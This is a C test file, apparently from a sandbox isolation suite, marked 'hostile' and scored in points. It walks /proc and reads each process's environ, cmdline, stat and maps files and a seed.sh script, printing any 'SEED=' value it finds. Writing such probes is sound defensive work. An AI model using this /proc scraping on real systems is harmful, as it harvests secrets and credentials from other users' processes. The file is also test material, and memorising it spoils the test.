/* hostile: looks for the seed where processes keep such things
 * points: 5
 * rest: attack sweep
 * never: 271828182 */
#define _GNU_SOURCE
#include "lab.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* prints what stands around the name of the seed */
static void show(const char *path)
{
    static char text[1 << 16];
    const int fd = open(path, O_RDONLY);
    const ssize_t got = fd < 0 ? 0 : read(fd, text, sizeof text - 1);

    for (ssize_t i = 0; i + 40 < got; i++)
        if (memcmp(text + i, "SEED=", 5) == 0) fprintf(stderr, "%.20s\n", text + i);
    if (fd >= 0) close(fd);
}

static void attack(void)
{
    static const char *const files[] = { "environ", "cmdline", "stat", "maps" };
    DIR *all = opendir("/proc");
    struct dirent *entry;
    char path[300];

    while (all && (entry = readdir(all)) != NULL)
        for (int i = 0; i < 4 && atoi(entry->d_name) > 0; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, files[i]);
            show(path);
        }
    show("@TOP@/seed.sh");
    if (all) closedir(all);
}
